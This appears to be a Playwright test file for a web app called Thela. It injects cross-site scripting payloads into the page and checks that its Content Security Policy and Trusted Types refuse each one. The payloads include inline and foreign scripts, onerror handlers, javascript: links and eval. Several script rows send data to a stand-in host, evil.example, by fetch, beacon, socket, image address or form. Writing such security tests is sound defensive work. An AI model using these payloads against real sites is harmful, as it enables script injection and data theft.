import type { Page } from '@playwright/test';
import { EVIL, RUN } from './attack';
import type { Attack } from './attack';

// What an attacker who got markup or a line of script into the page could do next.

const WELCOME = 'Welcome to Thela';

/** Directives that refused something on the page so far. */
async function refusedBy(page: Page): Promise<string> {
  const violations = await page.evaluate(
    () => (globalThis as unknown as { violations: string[] }).violations,
  );
  return [...new Set(violations)].toSorted().join(', ') || 'nothing';
}

/** A row in which the page arrives with this markup in it. */
function markup(name: string, html: string, directive: string): Attack {
  return {
    name,
    expected: `refused by ${directive}`,
    run: async ({ page, site, asked }) => {
      await page.route(`${site.url}/`, async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace('<head>', `<head>${html}`);
        await route.fulfill({ response, body });
      });
      await page.goto('/');
      await page.getByRole('heading', { name: WELCOME }).waitFor();
      const refused = await refusedBy(page);
      return asked.length > 0 ? `asked for ${asked.join()}` : `refused by ${refused}`;
    },
  };
}

/** A row in which script on the page tries something, in a timer: the debugger may do more. */
function script(name: string, body: () => unknown, directive: string): Attack {
  return {
    name,
    expected: `refused by ${directive}`,
    run: async ({ page, asked }) => {
      await page.goto('/');
      await page.getByRole('heading', { name: WELCOME }).waitFor();
      const refusal = page.evaluate(
        () =>
          new Promise<void>((resolve) => {
            document.addEventListener('securitypolicyviolation', () => setTimeout(resolve), {
              once: true,
            });
          }),
      );
      // What throws is refused all the same; the violation tells by what.
      await page.evaluate(body).catch(() => {});
      await refusal;
      const refused = await refusedBy(page);
      return asked.length > 0 ? `asked for ${asked.join()}` : `refused by ${refused}`;
    },
  };
}

export const injections: readonly Attack[] = [
  markup('an inline script in the page', `<script>${RUN}</script>`, 'script-src-elem'),
  markup(
    'an event handler in markup',
    `<img src="/favicon.svg" onload="${RUN}">`,
    'script-src-attr',
  ),
  markup('a script of a foreign origin', `<script src="${EVIL}/x.js"></script>`, 'script-src-elem'),
  markup(
    'a script as data',
    `<script src="data:text/javascript,${RUN}"></script>`,
    'script-src-elem',
  ),
  markup('an injected <base>', `<base href="${EVIL}/">`, 'base-uri'),
  markup(
    'a style sheet of a foreign origin',
    `<link rel="stylesheet" href="${EVIL}/x.css">`,
    'style-src-elem',
  ),
  markup('a style in the page', '<style>* { color: red }</style>', 'style-src-elem'),
  markup('a frame of a foreign origin', `<iframe src="${EVIL}/"></iframe>`, 'frame-src'),
  markup('a plug-in', `<object data="${EVIL}/x"></object>`, 'object-src'),
  markup('an import map', '<script type="importmap">{"imports":{}}</script>', 'script-src-elem'),
  script('a foreign fetch', () => fetch('http://evil.example/').catch(() => {}), 'connect-src'),
  script(
    'a foreign beacon',
    () => navigator.sendBeacon('http://evil.example/', 'x'),
    'connect-src',
  ),
  script('a foreign socket', () => void new WebSocket('ws://evil.example/'), 'connect-src'),
  script(
    'figures in the address of an image',
    () => {
      new Image().src = 'http://evil.example/?margin=86';
    },
    'img-src',
  ),
  script(
    'a form to elsewhere',
    () => {
      const form = document.createElement('form');
      form.action = 'http://evil.example/';
      document.body.append(form);
      form.submit();
    },
    'form-action',
  ),
  script(
    'a javascript: address',
    () => {
      location.href = 'javascript:globalThis.canary=1';
    },
    'script-src-elem',
  ),
  script(
    'a click on a javascript: link',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.canary=1';
      document.body.append(link);
      link.click();
    },
    'script-src-elem',
  ),
  script(
    'eval',
    // oxlint-disable-next-line typescript/no-implied-eval -- it is refused
    () => setTimeout(() => new Function('globalThis.canary=1')()),
    'require-trusted-types-for',
  ),
  ...sinks(),
  {
    name: 'a tool from a foreign origin in remotes.json',
    expected: 'stopped, and never asked for',
    run: async ({ page, site, asked }) => {
      await page.route(`${site.url}/remotes.json`, async (route) => {
        const text = await (await route.fetch()).text();
        await route.fulfill({ body: text.replaceAll(site.originOf('profit'), EVIL) });
      });
      await page.goto('/tools/profit-optimizer');
      await page.getByRole('alert').getByText('was stopped for your safety').waitFor();
      return asked.length > 0 ? `asked for ${asked.join()}` : 'stopped, and never asked for';
    },
  },
  {
    name: 'camera, place, payment, USB and the like',
    expected: 'off; the microphone is for this site only',
    run: async ({ page }) => {
      await page.goto('/');
      const allowed = await page.evaluate(() => {
        const { featurePolicy } = document as unknown as {
          featurePolicy: { getAllowlistForFeature: (feature: string) => string[] };
        };
        const features = ['camera', 'geolocation', 'payment', 'usb', 'hid', 'serial', 'microphone'];
        return features.flatMap((feature) =>
          featurePolicy.getAllowlistForFeature(feature).map((origin) => `${feature} ${origin}`),
        );
      });
      const isOurs = allowed.length === 1 && allowed[0]?.startsWith('microphone http://localhost:');
      return isOurs ? 'off; the microphone is for this site only' : allowed.join();
    },
  },
];

/** Where a string would become code or markup: Trusted Types refuse each. */
function sinks(): Attack[] {
  const attempts: Record<string, () => unknown> = {
    'innerHTML with a string': () => {
      document.body.innerHTML = '<img src=x onerror=globalThis.canary=1>';
    },
    'document.write': () => document.write('<script>globalThis.canary=1</script>'),
    'a script element with an address': () => {
      document.createElement('script').src = 'http://evil.example/x.js';
    },
    'a script element with text': () => {
      document.createElement('script').text = 'globalThis.canary=1';
    },
    'a frame with markup': () => {
      document.createElement('iframe').srcdoc = '<script>parent.canary=1</script>';
    },
    'a worker of its own making': () => {
      return new Worker(URL.createObjectURL(new Blob(['1'])));
    },
    'a service worker': () => {
      void navigator.serviceWorker.register('/x.js');
    },
  };
  const rows = Object.entries(attempts).map(([name, body]) =>
    script(name, body, 'require-trusted-types-for'),
  );
  const policy = script(
    'a policy for Trusted Types',
    () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
    },
    'trusted-types',
  );
  return [...rows, policy];
}
